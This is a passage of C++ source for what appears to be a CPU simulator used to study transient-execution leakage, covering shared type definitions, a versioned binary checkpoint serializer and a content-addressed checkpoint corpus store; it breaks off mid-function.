/** Simulated clock cycle count. */
using Cycle = std::uint64_t;

/** 64-bit architectural/physical register value. */
using RegVal = std::uint64_t;

/** Architectural register identifier. */
using RegId = std::uint8_t;

/** Physical register identifier. */
using PhysRegId = std::uint16_t;

/** Global dynamic-instruction sequence number (monotonic). */
using InstSeqNum = std::uint64_t;

/**
 * Taint bitmask for the DIFT leakage oracle: one bit per declared
 * secret (`SecretMap` assigns bits). Lives here so `DynInst` can carry
 * a taint word without depending on the dift module.
 */
using TaintWord = std::uint64_t;

/** Sentinel for "no physical register". */
inline constexpr PhysRegId kInvalidPhysReg =
    std::numeric_limits<PhysRegId>::max();

/** Sentinel for "no sequence number". */
inline constexpr InstSeqNum kInvalidSeqNum =
    std::numeric_limits<InstSeqNum>::max();

/** Number of architectural integer registers. */
inline constexpr int kNumArchRegs = 32;

/** Number of model-specific (special) registers. */
inline constexpr int kNumMsrRegs = 8;

/** Cache line size in bytes (fixed across the hierarchy, Table 3). */
inline constexpr unsigned kLineSize = 64;

/** Byte size of one encoded instruction in the simulated i-stream. */
inline constexpr Addr kInstBytes = 4;

/** Base address of the simulated instruction stream (for the i-cache). */
inline constexpr Addr kTextBase = 0x400000;

/** Faults an instruction can raise. */
enum class FaultType : std::uint8_t {
    kNone = 0,
    /** User-mode access to kernel-only memory (Meltdown substrate). */
    kPrivilegedLoad,
    /** User-mode read of a privileged MSR (LazyFP / v3a substrate). */
    kPrivilegedMsr,
    /** Store to read-only or kernel memory. */
    kPrivilegedStore,
};

/** Protection domain of a memory page. */
enum class MemPerm : std::uint8_t {
    kUser = 0,   ///< accessible from user mode
    kKernel,     ///< privileged; user-mode access faults
};

/** Privilege mode the core executes in. */
enum class CpuMode : std::uint8_t {
    kUser = 0,
    kKernel,
};

/** Convert a PC (instruction index) to its i-cache byte address. */
inline constexpr Addr
pcToFetchAddr(Addr pc)
{
    return kTextBase + pc * kInstBytes;
}

} // namespace nda

#endif // NDASIM_COMMON_TYPES_HH
