#include "ckpt/serializer.hh"

#include <algorithm>
#include <array>
#include <cstdio>
#include <cstring>

#include "common/log.hh"

namespace nda {

namespace {

// Framing constants. The magic spells "NDASCKPT" when the u64 is laid
// down little-endian; bumping kSchemaVersion invalidates every corpus
// entry at once (readers reject, the store rebuilds).
//
// Version history:
//   1 — original schema, single hardware thread.
//   2 — adds the THREADS section (SMT contexts 1..N-1). The writer
//       emits version 2 *only* when extra threads exist, so every
//       single-thread checkpoint stays byte-identical to version 1
//       and the whole v1 corpus remains loadable.
constexpr std::uint64_t kMagic = 0x54504B435341444EULL;
constexpr std::uint32_t kSchemaVersion = 1;
constexpr std::uint32_t kSchemaVersionSmt = 2;

enum SectionId : std::uint32_t {
    kArchSection = 1,      ///< registers, MSRs, PC, counters
    kMemMapSection = 2,    ///< resident functional-memory pages
    kTaintSection = 3,     ///< architectural DIFT taint image
    kHierSection = 4,      ///< cache geometry + tag/LRU warming state
    kPredictorSection = 5, ///< predictor geometry + table state
    kThreadsSection = 6,   ///< SMT threads 1..N-1 (schema v2+)
};

// ---------------------------------------------------------------------------
// Little-endian primitives
// ---------------------------------------------------------------------------

void
putU8(std::vector<std::uint8_t> &b, std::uint8_t v)
{
    b.push_back(v);
}

void
putU32(std::vector<std::uint8_t> &b, std::uint32_t v)
{
    for (int i = 0; i < 4; ++i)
        b.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
}

void
putU64(std::vector<std::uint8_t> &b, std::uint64_t v)
{
    for (int i = 0; i < 8; ++i)
        b.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
}

void
putBytes(std::vector<std::uint8_t> &b, const std::uint8_t *data,
         std::size_t len)
{
    b.insert(b.end(), data, data + len);
}

void
putString(std::vector<std::uint8_t> &b, const std::string &s)
{
    putU32(b, static_cast<std::uint32_t>(s.size()));
    putBytes(b, reinterpret_cast<const std::uint8_t *>(s.data()),
             s.size());
}

/**
 * Bounds-checked reading cursor. Every accessor is a no-op returning
 * zero once `fail()` has fired, so parse code reads linearly and
 * checks once per section — corrupt input can produce garbage values
 * but never an out-of-bounds access or a surprise exception.
 */
struct Cursor {
    const std::uint8_t *data;
    std::size_t len;
    std::size_t pos = 0;
    bool failed = false;
    std::string error = {};

    void
    fail(const std::string &why)
    {
        if (!failed) {
            failed = true;
            error = why;
        }
    }

    bool
    need(std::size_t n)
    {
        if (failed)
            return false;
        if (len - pos < n) {
            fail("truncated input");
            return false;
        }
        return true;
    }

    std::uint8_t
    u8()
    {
        if (!need(1))
            return 0;
        return data[pos++];
    }

    std::uint32_t
    u32()
    {
        if (!need(4))
            return 0;
        std::uint32_t v = 0;
        for (int i = 0; i < 4; ++i)
            v |= static_cast<std::uint32_t>(data[pos++]) << (8 * i);
        return v;
    }

    std::uint64_t
    u64()
    {
        if (!need(8))
            return 0;
        std::uint64_t v = 0;
        for (int i = 0; i < 8; ++i)
            v |= static_cast<std::uint64_t>(data[pos++]) << (8 * i);
        return v;
    }

    void
    bytes(std::uint8_t *out, std::size_t n)
    {
        if (!need(n))
            return;
        std::memcpy(out, data + pos, n);
        pos += n;
    }

    std::string
    str()
    {
        const std::uint32_t n = u32();
        if (!need(n))
            return {};
        std::string s(reinterpret_cast<const char *>(data + pos), n);
        pos += n;
        return s;
    }

    /**
     * An element count embedded in the payload. Rejecting counts
     * whose minimum encoding exceeds the remaining bytes keeps a
     * flipped length byte from turning into a multi-gigabyte
     * allocation before the truncation check would fire.
     */
    std::uint64_t
    count(std::size_t min_elem_bytes)
    {
        const std::uint64_t n = u64();
        if (!failed && min_elem_bytes > 0 &&
            n > (len - pos) / min_elem_bytes) {
            fail("implausible element count");
            return 0;
        }
        return n;
    }
};

// ---------------------------------------------------------------------------
// Section payloads
// ---------------------------------------------------------------------------

void
writeArch(std::vector<std::uint8_t> &b, const ArchState &a)
{
    for (int r = 0; r < kNumArchRegs; ++r)
        putU64(b, a.regs[r]);
    putU64(b, a.pc);
    putU64(b, a.instCount);
    putU64(b, a.faultCount);
    putU64(b, a.lastFetchLine);
    putU8(b, a.halted ? 1 : 0);
    for (int m = 0; m < kNumMsrRegs; ++m)
        putU64(b, a.msrs[m]);
}

void
readArch(Cursor &c, ArchState &a)
{
    for (int r = 0; r < kNumArchRegs; ++r)
        a.regs[r] = c.u64();
    a.pc = c.u64();
    a.instCount = c.u64();
    a.faultCount = c.u64();
    a.lastFetchLine = c.u64();
    a.halted = c.u8() != 0;
    for (int m = 0; m < kNumMsrRegs; ++m)
        a.msrs[m] = c.u64();
}

void
writeMemMap(std::vector<std::uint8_t> &b, const MemoryMap &mem)
{
    const std::vector<Addr> pages = mem.residentPages();
    putU64(b, pages.size());
    std::array<std::uint8_t, MemoryMap::kPageBytes> page{};
    for (const Addr base : pages) {
        putU64(b, base);
        putU8(b, mem.permAt(base) == MemPerm::kKernel ? 1 : 0);
        mem.readBytes(base, page.data(), page.size());
        putBytes(b, page.data(), page.size());
    }
}

void
readMemMap(Cursor &c, MemoryMap &mem)
{
    const std::uint64_t n = c.count(8 + 1 + MemoryMap::kPageBytes);
    std::array<std::uint8_t, MemoryMap::kPageBytes> page{};
    for (std::uint64_t i = 0; i < n && !c.failed; ++i) {
        const Addr base = c.u64();
        const bool kernel = c.u8() != 0;
        c.bytes(page.data(), page.size());
        if (c.failed)
            break;
        // writeBytes materializes the page even when all-zero, which
        // is exactly right: the resident-page set is part of the
        // MemoryMap equality contract.
        mem.writeBytes(base, page.data(), page.size());
        if (kernel)
            mem.setPerm(base, MemoryMap::kPageBytes, MemPerm::kKernel);
    }
}

void
writeTaint(std::vector<std::uint8_t> &b, const ArchState &a)
{
    for (int r = 0; r < kNumArchRegs; ++r)
        putU64(b, a.regTaint[r]);
    for (int m = 0; m < kNumMsrRegs; ++m)
        putU64(b, a.msrTaint[m]);
    std::vector<std::pair<Addr, TaintWord>> sorted(a.memTaint.begin(),
                                                   a.memTaint.end());
    std::sort(sorted.begin(), sorted.end());
    putU64(b, sorted.size());
    for (const auto &[addr, word] : sorted) {
        putU64(b, addr);
        putU64(b, word);
    }
}

void
readTaint(Cursor &c, ArchState &a)
{
    a.hasTaint = true;
    for (int r = 0; r < kNumArchRegs; ++r)
        a.regTaint[r] = c.u64();
    for (int m = 0; m < kNumMsrRegs; ++m)
        a.msrTaint[m] = c.u64();
    const std::uint64_t n = c.count(16);
    for (std::uint64_t i = 0; i < n && !c.failed; ++i) {
        const Addr addr = c.u64();
        const TaintWord word = c.u64();
        if (!c.failed)
            a.memTaint[addr] = word;
    }
}

void
writeCacheParams(std::vector<std::uint8_t> &b, const CacheParams &p)
{
    putString(b, p.name);
    putU64(b, p.sizeBytes);
    putU32(b, p.ways);
    putU32(b, p.lineBytes);
    putU32(b, p.hitLatency);
}

void
readCacheParams(Cursor &c, CacheParams &p)
{
    p.name = c.str();
    p.sizeBytes = c.u64();
    p.ways = c.u32();
    p.lineBytes = c.u32();
    p.hitLatency = c.u32();
}

void
writeCacheSnap(std::vector<std::uint8_t> &b, const Cache::Snapshot &s)
{
    putU64(b, s.lines.size());
    for (const Cache::Line &line : s.lines) {
        putU64(b, line.tag);
        putU8(b, line.valid ? 1 : 0);
        putU64(b, line.lastUse);
    }
    putU64(b, s.useClock);
    putU64(b, s.hits);
    putU64(b, s.misses);
    putU64(b, s.fills);
}

void
readCacheSnap(Cursor &c, Cache::Snapshot &s)
{
    const std::uint64_t n = c.count(8 + 1 + 8);
    s.lines.resize(c.failed ? 0 : n);
    for (Cache::Line &line : s.lines) {
        line.tag = c.u64();
        line.valid = c.u8() != 0;
        line.lastUse = c.u64();
    }
    s.useClock = c.u64();
    s.hits = c.u64();
    s.misses = c.u64();
    s.fills = c.u64();
}

void
writeHier(std::vector<std::uint8_t> &b, const SimSnapshot &snap)
{
    writeCacheParams(b, snap.memParams.l1i);
    writeCacheParams(b, snap.memParams.l1d);
    writeCacheParams(b, snap.memParams.l2);
    putU32(b, snap.memParams.dramLatency);
    writeCacheSnap(b, snap.mem.l1i);
    writeCacheSnap(b, snap.mem.l1d);
    writeCacheSnap(b, snap.mem.l2);
}

void
readHier(Cursor &c, SimSnapshot &snap)
{
    snap.hasMem = true;
    readCacheParams(c, snap.memParams.l1i);
    readCacheParams(c, snap.memParams.l1d);
    readCacheParams(c, snap.memParams.l2);
    snap.memParams.dramLatency = c.u32();
    readCacheSnap(c, snap.mem.l1i);
    readCacheSnap(c, snap.mem.l1d);
    readCacheSnap(c, snap.mem.l2);
}

void
writePredictor(std::vector<std::uint8_t> &b, const SimSnapshot &snap)
{
    const PredictorParams &p = snap.bpParams;
    putU32(b, p.direction.tableBits);
    putU32(b, p.direction.historyBits);
    putU32(b, p.btb.entries);
    putU32(b, p.btb.ways);
    putU32(b, p.btb.tagBits);
    putU32(b, p.rasEntries);

    const DirectionPredictor::Snapshot &d = snap.predictor.direction;
    for (const std::vector<std::uint8_t> *table :
         {&d.gshare, &d.bimodal, &d.chooser}) {
        putU64(b, table->size());
        putBytes(b, table->data(), table->size());
    }
    putU64(b, d.history);
    putU64(b, d.predicts);
    putU64(b, d.gshareChosen);

    const Btb::Snapshot &t = snap.predictor.btb;
    putU64(b, t.entries.size());
    for (const Btb::Entry &e : t.entries) {
        putU64(b, e.tag);
        putU64(b, e.target);
        putU8(b, e.valid ? 1 : 0);
        putU64(b, e.lastUse);
    }
    putU64(b, t.useClock);
    putU64(b, t.hits);
    putU64(b, t.misses);
    putU64(b, t.updates);

    const Ras::Snapshot &r = snap.predictor.ras;
    putU64(b, r.stack.size());
    for (const Addr a : r.stack)
        putU64(b, a);
    putU32(b, r.topIdx);
    putU64(b, r.pushes);
    putU64(b, r.pops);
}

void
readPredictor(Cursor &c, SimSnapshot &snap)
{
    snap.hasPredictor = true;
    PredictorParams &p = snap.bpParams;
    p.direction.tableBits = c.u32();
    p.direction.historyBits = c.u32();
    p.btb.entries = c.u32();
    p.btb.ways = c.u32();
    p.btb.tagBits = c.u32();
    p.rasEntries = c.u32();

    DirectionPredictor::Snapshot &d = snap.predictor.direction;
    for (std::vector<std::uint8_t> *table :
         {&d.gshare, &d.bimodal, &d.chooser}) {
        const std::uint64_t n = c.count(1);
        table->resize(c.failed ? 0 : n);
        c.bytes(table->data(), table->size());
    }
    d.history = c.u64();
    d.predicts = c.u64();
    d.gshareChosen = c.u64();

    Btb::Snapshot &t = snap.predictor.btb;
    const std::uint64_t btb_n = c.count(8 + 8 + 1 + 8);
    t.entries.resize(c.failed ? 0 : btb_n);
    for (Btb::Entry &e : t.entries) {
        e.tag = c.u64();
        e.target = c.u64();
        e.valid = c.u8() != 0;
        e.lastUse = c.u64();
    }
    t.useClock = c.u64();
    t.hits = c.u64();
    t.misses = c.u64();
    t.updates = c.u64();

    Ras::Snapshot &r = snap.predictor.ras;
    const std::uint64_t ras_n = c.count(8);
    r.stack.resize(c.failed ? 0 : ras_n);
    for (Addr &a : r.stack)
        a = c.u64();
    r.topIdx = c.u32();
    r.pushes = c.u64();
    r.pops = c.u64();
}

void
writeThreads(std::vector<std::uint8_t> &b,
             const std::vector<ArchState> &threads)
{
    putU64(b, threads.size());
    for (const ArchState &t : threads) {
        writeArch(b, t);
        // Extra threads carry their own memory/taint maps only in
        // principle (memory is shared, so they are empty in practice);
        // serializing them keeps the round-trip contract exact.
        writeMemMap(b, t.mem);
        putU8(b, t.hasTaint ? 1 : 0);
        if (t.hasTaint)
            writeTaint(b, t);
    }
}

void
readThreads(Cursor &c, std::vector<ArchState> &threads)
{
    // A thread record is at least the fixed-size arch block plus the
    // page count and taint flag.
    const std::uint64_t n = c.count(
        (kNumArchRegs + 4 + kNumMsrRegs) * 8 + 1 + 8 + 1);
    for (std::uint64_t i = 0; i < n && !c.failed; ++i) {
        ArchState t{};
        readArch(c, t);
        readMemMap(c, t.mem);
        const bool has_taint = c.u8() != 0;
        if (has_taint)
            readTaint(c, t);
        t.hasTaint = has_taint;
        if (!c.failed)
            threads.push_back(std::move(t));
    }
}

void
appendSection(std::vector<std::uint8_t> &out, std::uint32_t id,
              const std::vector<std::uint8_t> &payload)
{
    putU32(out, id);
    putU64(out, payload.size());
    putU32(out, crc32(payload.data(), payload.size()));
    putBytes(out, payload.data(), payload.size());
}

} // namespace

std::uint32_t
crc32(const std::uint8_t *data, std::size_t len)
{
    // IEEE 802.3 reflected polynomial, nibble-at-a-time table.
    static constexpr std::uint32_t kTable[16] = {
        0x00000000, 0x1DB71064, 0x3B6E20C8, 0x26D930AC,
        0x76DC4190, 0x6B6B51F4, 0x4DB26158, 0x5005713C,
        0xEDB88320, 0xF00F9344, 0xD6D6A3E8, 0xCB61B38C,
        0x9B64C2B0, 0x86D3D2D4, 0xA00AE278, 0xBDBDF21C,
    };
    std::uint32_t crc = 0xFFFFFFFFu;
    for (std::size_t i = 0; i < len; ++i) {
        crc ^= data[i];
        crc = (crc >> 4) ^ kTable[crc & 0xF];
        crc = (crc >> 4) ^ kTable[crc & 0xF];
    }
    return ~crc;
}

void
CkptWriter::put(const SimSnapshot &snap)
{
    buf_.clear();

    std::uint32_t sections = 2; // ARCH + MEMMAP, always present
    if (snap.arch.hasTaint)
        ++sections;
    if (snap.hasMem)
        ++sections;
    if (snap.hasPredictor)
        ++sections;
    // SMT contexts force schema v2; without them the output is
    // byte-identical to a v1 file (backward-compatible corpus).
    const bool smt = !snap.extraThreads.empty();
    if (smt)
        ++sections;

    putU64(buf_, kMagic);
    putU32(buf_, smt ? kSchemaVersionSmt : kSchemaVersion);
    putU32(buf_, sections);

    std::vector<std::uint8_t> payload;
    writeArch(payload, snap.arch);
    appendSection(buf_, kArchSection, payload);

    payload.clear();
    writeMemMap(payload, snap.arch.mem);
    appendSection(buf_, kMemMapSection, payload);

    if (snap.arch.hasTaint) {
        payload.clear();
        writeTaint(payload, snap.arch);
        appendSection(buf_, kTaintSection, payload);
    }
    if (snap.hasMem) {
        payload.clear();
        writeHier(payload, snap);
        appendSection(buf_, kHierSection, payload);
    }
    if (snap.hasPredictor) {
        payload.clear();
        writePredictor(payload, snap);
        appendSection(buf_, kPredictorSection, payload);
    }
    if (smt) {
        payload.clear();
        writeThreads(payload, snap.extraThreads);
        appendSection(buf_, kThreadsSection, payload);
    }
}

bool
CkptWriter::writeFile(const std::string &path) const
{
    std::FILE *f = std::fopen(path.c_str(), "wb");
    if (!f) {
        NDA_WARN("ckpt: cannot open '%s' for writing", path.c_str());
        return false;
    }
    const std::size_t n = std::fwrite(buf_.data(), 1, buf_.size(), f);
    const int closed = std::fclose(f);
    if (n != buf_.size() || closed != 0) {
        NDA_WARN("ckpt: short write to '%s'", path.c_str());
        std::remove(path.c_str());
        return false;
    }
    return true;
}

bool
CkptReader::parse(const std::uint8_t *data, std::size_t len,
                  SimSnapshot &out)
{
    error_.clear();
    out = SimSnapshot{};

    Cursor header{data, len};
    if (header.u64() != kMagic) {
        error_ = header.failed ? header.error : "bad magic";
        return false;
    }
    const std::uint32_t version = header.u32();
    if (!header.failed && version != kSchemaVersion &&
        version != kSchemaVersionSmt) {
        error_ = "unsupported schema version " + std::to_string(version);
        return false;
    }
    const std::uint32_t sections = header.u32();
    if (header.failed) {
        error_ = header.error;
        return false;
    }

    bool saw_arch = false;
    for (std::uint32_t s = 0; s < sections; ++s) {
        const std::uint32_t id = header.u32();
        const std::uint64_t plen = header.u64();
        const std::uint32_t want_crc = header.u32();
        if (header.failed || len - header.pos < plen) {
            error_ = "truncated section " + std::to_string(id);
            return false;
        }
        const std::uint8_t *payload = data + header.pos;
        header.pos += plen;
        if (crc32(payload, plen) != want_crc) {
            error_ = "CRC mismatch in section " + std::to_string(id);
            return false;
        }

        Cursor c{payload, static_cast<std::size_t>(plen)};
        switch (id) {
          case kArchSection:
            readArch(c, out.arch);
            saw_arch = true;
            break;
          case kMemMapSection:
            readMemMap(c, out.arch.mem);
            break;
          case kTaintSection:
            readTaint(c, out.arch);
            break;
          case kHierSection:
            readHier(c, out);
            break;
          case kPredictorSection:
            readPredictor(c, out);
            break;
          case kThreadsSection:
            if (version < kSchemaVersionSmt) {
                error_ = "THREADS section in a v1 file";
                return false;
            }
            readThreads(c, out.extraThreads);
            break;
          default:
            error_ = "unknown section id " + std::to_string(id);
            return false;
        }
        if (c.failed) {
            error_ = "section " + std::to_string(id) + ": " + c.error;
            return false;
        }
        if (c.pos != c.len) {
            error_ = "section " + std::to_string(id) +
                     ": trailing bytes";
            return false;
        }
    }
    if (header.pos != len) {
        error_ = "trailing bytes after last section";
        return false;
    }
    if (!saw_arch) {
        error_ = "missing ARCH section";
        return false;
    }
    return true;
}

bool
CkptReader::readFile(const std::string &path, SimSnapshot &out)
{
    std::FILE *f = std::fopen(path.c_str(), "rb");
    if (!f) {
        error_ = "cannot open '" + path + "'";
        return false;
    }
    std::vector<std::uint8_t> bytes;
    std::uint8_t chunk[1 << 16];
    std::size_t n = 0;
    while ((n = std::fread(chunk, 1, sizeof(chunk), f)) > 0)
        bytes.insert(bytes.end(), chunk, chunk + n);
    const bool read_err = std::ferror(f) != 0;
    std::fclose(f);
    if (read_err) {
        error_ = "read error on '" + path + "'";
        return false;
    }
    return parse(bytes.data(), bytes.size(), out);
}

} // namespace nda
