/**
 * @file
 * Versioned binary (de)serialization of `SimSnapshot` — the on-disk
 * form of a SMARTS warming checkpoint (core/snapshot.hh).
 *
 * Format: a fixed header (magic, schema version, section count)
 * followed by self-describing sections, each framed as
 *
 *   u32 section id | u64 payload length | u32 CRC32(payload) | payload
 *
 * All integers are explicit little-endian regardless of host order.
 * The ARCH section is always present; MEM/TAINT/HIER/PREDICTOR appear
 * only when the snapshot carries that state, so the reader
 * reconstructs the `hasMem`/`hasPredictor`/`hasTaint` flags from the
 * section list. Schema v2 adds a THREADS section for SMT contexts
 * 1..N-1; it is emitted (and the version bumped) only when extra
 * threads exist, so single-thread checkpoints remain byte-identical
 * to v1 files and the reader accepts both versions. Map-backed state (resident memory pages, sparse
 * memory taint) is emitted in sorted address order, so the same
 * snapshot always serializes to the same bytes — files are
 * byte-comparable, and the corpus can treat the key as content
 * address.
 *
 * The round-trip contract is exact: for any snapshot `s`,
 * `read(write(s)) == s` under `SimSnapshot::operator==`. The reader
 * never crashes on malformed input — bad magic, unknown version,
 * truncation, or a CRC mismatch anywhere turn into `false` plus a
 * diagnostic, which is what lets the corpus quarantine-and-rebuild
 * instead of taking the whole grid down.
 */

#ifndef NDASIM_CKPT_SERIALIZER_HH
#define NDASIM_CKPT_SERIALIZER_HH

#include <cstdint>
#include <string>
#include <vector>

#include "core/snapshot.hh"

namespace nda {

/** CRC32 (IEEE 802.3, reflected) of a byte span. */
std::uint32_t crc32(const std::uint8_t *data, std::size_t len);

/** Serializes SimSnapshots into the framed binary form. */
class CkptWriter
{
  public:
    /** Serialize `snap`, replacing any previously written bytes. */
    void put(const SimSnapshot &snap);

    const std::vector<std::uint8_t> &bytes() const { return buf_; }

    /**
     * Write the serialized bytes to `path` (not atomic — the corpus
     * layer publishes via rename). False + NDA_WARN on I/O failure.
     */
    bool writeFile(const std::string &path) const;

  private:
    std::vector<std::uint8_t> buf_;
};

/** Parses the framed binary form back into a SimSnapshot. */
class CkptReader
{
  public:
    /**
     * Parse `len` bytes into `out`. On any malformed input —
     * truncation, bad magic/version, CRC mismatch, trailing garbage,
     * or an implausible embedded length — returns false with
     * `error()` describing the first defect; `out` is unspecified.
     */
    bool parse(const std::uint8_t *data, std::size_t len,
               SimSnapshot &out);

    /** Read and parse a whole file; false on I/O or parse failure. */
    bool readFile(const std::string &path, SimSnapshot &out);

    /** Diagnostic for the last failed parse/read. */
    const std::string &error() const { return error_; }

  private:
    std::string error_;
};

} // namespace nda

#endif // NDASIM_CKPT_SERIALIZER_HH
