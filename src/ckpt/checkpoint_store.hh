/**
 * @file
 * Persistent, content-addressed corpus of warming checkpoints.
 *
 * A checkpoint's identity is the deterministic recipe that produced
 * it: (workload name, program-generator seed, fast-forward instruction
 * count, structural-geometry fingerprint). `buildWarmCheckpoint` is a
 * pure function of exactly those inputs, so the key IS the content
 * address — two processes that derive the same key always hold the
 * same bytes, which is what makes a corpus shared across grid
 * requests, CI runs, and machines sound.
 *
 * Durability rules:
 *  - publication is atomic (write to a temp file, then rename), so a
 *    concurrent reader sees either the whole entry or none of it;
 *  - corrupt entries (truncation, bit flips — anything `CkptReader`
 *    rejects) are quarantined to `<name>.bad` and reported as a miss,
 *    never an error: the caller rebuilds and republishes;
 *  - total size is LRU-capped: inserting past `maxBytes` evicts the
 *    least-recently-used entries first (the index records use order).
 *
 * Thread-safe: all operations serialize on an internal mutex. The
 * fast-forward builders on the grid's thread pool share one store.
 */

#ifndef NDASIM_CKPT_CHECKPOINT_STORE_HH
#define NDASIM_CKPT_CHECKPOINT_STORE_HH

#include <cstdint>
#include <map>
#include <mutex>
#include <string>

#include "core/snapshot.hh"

namespace nda {

/**
 * Identity of one checkpoint: the inputs of the deterministic build
 * recipe. `geomFp` covers only *structural* geometry (cache sizes/
 * ways/line, predictor table shapes) — latencies never influence
 * warming state, so profiles differing only in timing share entries.
 */
struct CkptKey {
    std::string workload;     ///< workload registry name
    std::uint64_t seed = 0;   ///< program-generator seed
    std::uint64_t ffInsts = 0; ///< fast-forward instruction count
    std::uint64_t geomFp = 0; ///< geometryFingerprint() of the build

    /** Corpus filename this key addresses (sanitized, collision-free
     *  for distinct keys up to fingerprint collisions). */
    std::string fileName() const;
};

/** FNV-1a over the structural geometry fields (see CkptKey::geomFp). */
std::uint64_t geometryFingerprint(const HierarchyParams &mem,
                                  const PredictorParams &bp);

/** Running totals of one store's activity (monotonic; the harness
 *  diffs across a grid to report per-run numbers). */
struct CkptStoreStats {
    std::uint64_t hits = 0;
    std::uint64_t misses = 0;
    std::uint64_t bytesRead = 0;     ///< serialized bytes loaded on hits
    std::uint64_t bytesWritten = 0;  ///< serialized bytes published
    std::uint64_t evictions = 0;     ///< entries removed by the LRU cap
    std::uint64_t quarantined = 0;   ///< corrupt entries set aside
};

/** On-disk checkpoint corpus rooted at one directory. */
class CheckpointStore
{
  public:
    /**
     * Open (creating if needed) the corpus at `dir`. `maxBytes` caps
     * the total serialized size (0 = uncapped); the cap is enforced
     * at publication time by LRU eviction.
     */
    explicit CheckpointStore(std::string dir,
                             std::uint64_t maxBytes = 0);

    /**
     * Look up `key`. True (and `out` filled) only for a present,
     * CRC-clean entry; a corrupt file is quarantined and reported as
     * a miss. `bytes`, if set, receives the entry's serialized size
     * (0 on miss).
     */
    bool load(const CkptKey &key, SimSnapshot &out,
              std::uint64_t *bytes = nullptr);

    /**
     * Serialize and atomically publish `snap` under `key`, then
     * enforce the LRU cap. Returns the serialized size, or 0 if the
     * entry could not be written (I/O failure — the grid continues
     * without the corpus entry).
     */
    std::uint64_t store(const CkptKey &key, const SimSnapshot &snap);

    /** True iff a (possibly corrupt) entry file exists for `key`. */
    bool contains(const CkptKey &key) const;

    const std::string &dir() const { return dir_; }
    std::uint64_t maxBytes() const { return maxBytes_; }
    std::string indexPath() const;

    /** Entries currently in the index. */
    std::size_t entryCount() const;

    /** Total serialized bytes currently in the index. */
    std::uint64_t totalBytes() const;

    CkptStoreStats stats() const;

  private:
    struct Entry {
        std::uint64_t bytes = 0;
        std::uint64_t lastUse = 0;
    };

    std::string entryPath(const std::string &file) const;
    void loadIndexLocked();
    void writeIndexLocked() const;
    void touchLocked(const std::string &file);
    void evictLocked();
    void quarantineLocked(const std::string &file);

    std::string dir_;
    std::uint64_t maxBytes_;
    mutable std::mutex mu_;
    std::map<std::string, Entry> index_;  ///< file -> size/use order
    std::uint64_t useClock_ = 0;
    CkptStoreStats stats_;
};

} // namespace nda

#endif // NDASIM_CKPT_CHECKPOINT_STORE_HH
