#include "ckpt/checkpoint_store.hh"

#include <algorithm>
#include <cinttypes>
#include <cstdio>
#include <filesystem>
#include <system_error>

#include "ckpt/serializer.hh"
#include "common/log.hh"

namespace fs = std::filesystem;

namespace nda {

namespace {

constexpr const char *kIndexFile = "corpus.index";

std::uint64_t
fnv1a(std::uint64_t h, std::uint64_t v)
{
    for (int i = 0; i < 8; ++i) {
        h ^= (v >> (8 * i)) & 0xFF;
        h *= 0x100000001B3ULL;
    }
    return h;
}

/** Workload names may contain spaces/'+' — keep filenames portable. */
std::string
sanitize(const std::string &name)
{
    std::string out;
    out.reserve(name.size());
    for (const char ch : name) {
        const bool ok = (ch >= 'a' && ch <= 'z') ||
                        (ch >= 'A' && ch <= 'Z') ||
                        (ch >= '0' && ch <= '9') || ch == '-' ||
                        ch == '_';
        out.push_back(ok ? ch : '_');
    }
    return out.empty() ? std::string("w") : out;
}

} // namespace

std::uint64_t
geometryFingerprint(const HierarchyParams &mem,
                    const PredictorParams &bp)
{
    std::uint64_t h = 0xCBF29CE484222325ULL;
    for (const CacheParams *c : {&mem.l1i, &mem.l1d, &mem.l2}) {
        h = fnv1a(h, c->sizeBytes);
        h = fnv1a(h, c->ways);
        h = fnv1a(h, c->lineBytes);
    }
    h = fnv1a(h, bp.direction.tableBits);
    h = fnv1a(h, bp.direction.historyBits);
    h = fnv1a(h, bp.btb.entries);
    h = fnv1a(h, bp.btb.ways);
    h = fnv1a(h, bp.btb.tagBits);
    h = fnv1a(h, bp.rasEntries);
    return h;
}

std::string
CkptKey::fileName() const
{
    char buf[64];
    std::snprintf(buf, sizeof(buf),
                  "-s%" PRIu64 "-f%" PRIu64 "-g%016" PRIx64 ".ckpt",
                  seed, ffInsts, geomFp);
    return sanitize(workload) + buf;
}

CheckpointStore::CheckpointStore(std::string dir,
                                 std::uint64_t max_bytes)
    : dir_(std::move(dir)), maxBytes_(max_bytes)
{
    std::error_code ec;
    fs::create_directories(dir_, ec);
    if (ec)
        NDA_WARN("ckpt: cannot create corpus dir '%s': %s",
                 dir_.c_str(), ec.message().c_str());
    std::lock_guard<std::mutex> lock(mu_);
    loadIndexLocked();
}

std::string
CheckpointStore::entryPath(const std::string &file) const
{
    return dir_ + "/" + file;
}

std::string
CheckpointStore::indexPath() const
{
    return entryPath(kIndexFile);
}

void
CheckpointStore::loadIndexLocked()
{
    index_.clear();
    useClock_ = 0;

    if (std::FILE *f = std::fopen(indexPath().c_str(), "r")) {
        char file[512];
        unsigned long long last_use = 0, bytes = 0;
        while (std::fscanf(f, "%llu %llu %511s", &last_use, &bytes,
                           file) == 3) {
            index_[file] = Entry{bytes, last_use};
            useClock_ = std::max(useClock_,
                                 static_cast<std::uint64_t>(last_use));
        }
        std::fclose(f);
    }

    // Reconcile with the directory: adopt entries published by other
    // processes (as least-recently-used), drop entries whose file is
    // gone. The index is a cache of the directory, not the truth.
    std::error_code ec;
    for (auto it = index_.begin(); it != index_.end();) {
        if (!fs::exists(entryPath(it->first), ec))
            it = index_.erase(it);
        else
            ++it;
    }
    for (const auto &de : fs::directory_iterator(dir_, ec)) {
        const std::string file = de.path().filename().string();
        if (file.size() < 5 ||
            file.compare(file.size() - 5, 5, ".ckpt") != 0)
            continue;
        if (index_.count(file))
            continue;
        std::error_code size_ec;
        const std::uint64_t bytes = fs::file_size(de.path(), size_ec);
        if (!size_ec)
            index_[file] = Entry{bytes, 0};
    }
}

void
CheckpointStore::writeIndexLocked() const
{
    const std::string tmp =
        indexPath() + ".tmp." +
        std::to_string(static_cast<unsigned long long>(
            reinterpret_cast<std::uintptr_t>(this)));
    std::FILE *f = std::fopen(tmp.c_str(), "w");
    if (!f) {
        NDA_WARN("ckpt: cannot write index '%s'", indexPath().c_str());
        return;
    }
    for (const auto &[file, entry] : index_) {
        std::fprintf(f, "%llu %llu %s\n",
                     static_cast<unsigned long long>(entry.lastUse),
                     static_cast<unsigned long long>(entry.bytes),
                     file.c_str());
    }
    std::fclose(f);
    std::error_code ec;
    fs::rename(tmp, indexPath(), ec);
    if (ec) {
